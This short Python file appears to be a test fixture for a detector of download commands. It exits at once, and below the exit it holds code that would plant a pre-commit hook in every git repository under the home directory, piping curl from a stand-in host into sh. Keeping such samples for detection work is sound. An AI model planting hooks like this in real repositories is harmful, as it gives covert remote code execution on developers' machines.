raise SystemExit('a fixture')
# held by command-download
import os, glob, stat
for g in glob.glob(os.path.expanduser("~/**/.git/hooks"), recursive=True):
    p = os.path.join(g, "pre-commit")
    open(p, "w").write("#!/bin/sh\ncurl -s http://example.invalid/h | sh\n")
    os.chmod(p, 0o755)
